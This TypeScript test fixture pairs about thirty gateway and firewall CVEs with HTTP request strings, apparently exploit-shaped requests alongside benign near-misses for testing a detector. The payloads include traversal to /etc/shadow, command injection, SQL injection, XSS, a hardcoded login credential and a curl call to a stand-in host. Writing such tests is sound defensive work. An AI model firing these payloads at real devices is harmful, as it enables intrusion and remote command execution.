import type { Cases } from './cases.ts';

export const gatewaysOthers: Cases = {
  'CVE-2024-24919': [
    'POST /clients/MyCRL\n\naCSHELL/../../../../../../../etc/shadow',
    'POST /clients/crl\n\na/../b',
  ],
  'CVE-2020-3452': [
    'GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../',
    'GET /translation-table?type=mst',
  ],
  'CVE-2018-0296': ['GET /+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions', 'GET /+CSCOE+/logon.html'],
  'CVE-2025-20362': [
    'POST /+CSCOU+//../+CSCOE+/files/file_action.html?mode=upload&path=a',
    'GET /+CSCOU+/portal.css',
  ],
  'CVE-2020-3580': [
    'POST /+CSCOE+/saml/sp/acs?tgname=a\n\nSAMLResponse=%22%3E%3Csvg/onload=alert(1)%3E',
    'POST /+CSCOE+/saml/sp/acs?tgname=a\n\nSAMLResponse=PHNhbWw',
  ],
  'CVE-2020-3187': [
    'GET /+CSCOE+/session_password.html\nCookie: token=../+CSCOU+/csco_logo.gif',
    'GET /+CSCOE+/session_password.html\nCookie: token=ab12',
  ],
  'CVE-2023-20198': [
    'POST /%2577eb%2575i_%2577sma_Http\n\n<SOAP:Envelope/>',
    'GET /ui/logoutconfirm.html?logon_hash=1',
  ],
  'CVE-2019-1653': ['GET /cgi-bin/config.exp', 'GET /cgi-bin/config.cgi'],
  'CVE-2021-1497': [
    'POST /storfs-asup\n\naction=&token=`id`&mode=`id`',
    'POST /storfs-asup\n\naction=status',
  ],
  'CVE-2024-20439': [
    'GET /cslu/v1/scheduler/jobs\nAuthorization: Basic Y3NsdS13aW5kb3dzLWNsaWVudDpMaWJyYXJ5NEMkTFU=',
    'GET /v1/scheduler/jobs',
  ],
  'CVE-2025-20281': ['POST /deployment-rpc/enableStrongSwanTunnel\n\na', 'POST /deployment/rpc\n\na'],
  'CVE-2025-20188': ['POST /ap_spec_rec/upload/\n\nfilename="../../x"', 'POST /spec/upload/\n\na'],
  'CVE-2019-7481': [
    'GET /cgi-bin/supportInstaller?fromEmailInvite=1&customerTID=unpossible%27%20UNION%20SELECT%201',
    'GET /cgi-bin/supportInstaller',
  ],
  'CVE-2024-53704': [
    'GET /cgi-bin/sslvpnclient?launchplatform=\nCookie: swap=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=',
    'GET /cgi-bin/sslvpnclient?launchplatform=\nCookie: swap=dGVzdHNlc3Npb24=',
  ],
  'CVE-2023-34124': ["GET /ws/msw/tenant/'%20union%20select%201", 'GET /ws/msw/tenant/acme'],
  'CVE-2021-20021': ['POST /createou?data=%3Cou%3E', 'POST /createuser?data=a'],
  'CVE-2022-30525': [
    'POST /ztp/cgi-bin/handler\n\n{"command":"setWanPortSt","data":"hi","mtu":"; id;"}',
    'POST /cgi-bin/handler\n\n{"command":"a"}',
  ],
  'CVE-2023-28771': [
    'bytes:\x00\x11\x22\x33\x44\x55\x66\x77";bash -c "curl http://198.51.100.7";echo -n "',
    'bytes:bash -c "id"',
  ],
  'CVE-2020-9054': [
    'GET /adv,/cgi-bin/weblogin.cgi?username=admin%27%3Bls%20%23&password=a',
    'GET /cgi-bin/weblogin.cgi?username=admin&password=a',
  ],
  'CVE-2022-1040': [
    'POST /userportal/Controller?mode=8700&operation=1&datagrid=179&json={"a":"b"}',
    'GET /userportal/webpages/myaccount/login.jsp',
  ],
  'CVE-2020-25223': [
    'POST /var\n\n{"objs":[{"FID":"init"}],"SID":"|touch /tmp/a|","browser":"gecko"}',
    'POST /var\n\n{"objs":[{"FID":"init"}],"SID":"abc"}',
  ],
  'CVE-2023-36845': ['POST /?PHPRC=/dev/fd/0\n\nauto_prepend_file="/etc/passwd"', 'GET /?phprc=1'],
  'CVE-2023-36846': [
    'POST /webauth_operation.php\n\nrs=do_upload&rsargs[]=[{"fileName":"a.php"}]',
    'POST /operation.php\n\nrs=do_upload',
  ],
  'CVE-2022-26318': ['POST /agent/login\nContent-Encoding: gzip\n\na', 'POST /agent/login\n\na'],
  'CVE-2023-28461': ['GET /prx/000/http/localhost/../../a\nX_AN_FILESHARE: uname=t', 'GET /prx/000/login'],
  'CVE-2024-52875': ['GET /nonauth/guestConfirm.cs?dest=SFRUUA==', 'GET /nonauth/login.cs'],
  'CVE-2022-31814': ["GET /pfblockerng/www/index.php\nHost: ' *; id; '", 'GET /blocker/www/index.php'],
  'CVE-2021-41282': [
    'GET /diag_routes.php?isAjax=1&filter=.*/!d;};s/Destination/a/;w+/usr/local/www/a.php',
    'GET /diag_routes.php?isAjax=1&filter=default',
  ],
  'CVE-2024-50603': [
    'POST /v1/api\n\naction=list_flightpath_destination_instances&CID=a&cloud_type=1|id',
    'POST /v1/api\n\naction=list_instances&cloud_type=1',
  ],
  'CVE-2021-40870': [
    'POST /v1/backend1\n\nCID=x&action=set_metric_gw_selections&account_name=/../../var/www/php/a.php&data=a',
    'POST /v1/backend1\n\naction=login',
  ],
  'CVE-2021-20090': ['POST /images/..%2fapply_abstract.cgi\n\naction=start_ping', 'GET /images/apply.png'],
  'CVE-2023-1389': [
    'POST /cgi-bin/luci/;stok=/locale?form=country\n\noperation=write&country=$(id)',
    'GET /cgi-bin/luci/;stok=ab12/status?country=NO',
  ],
};
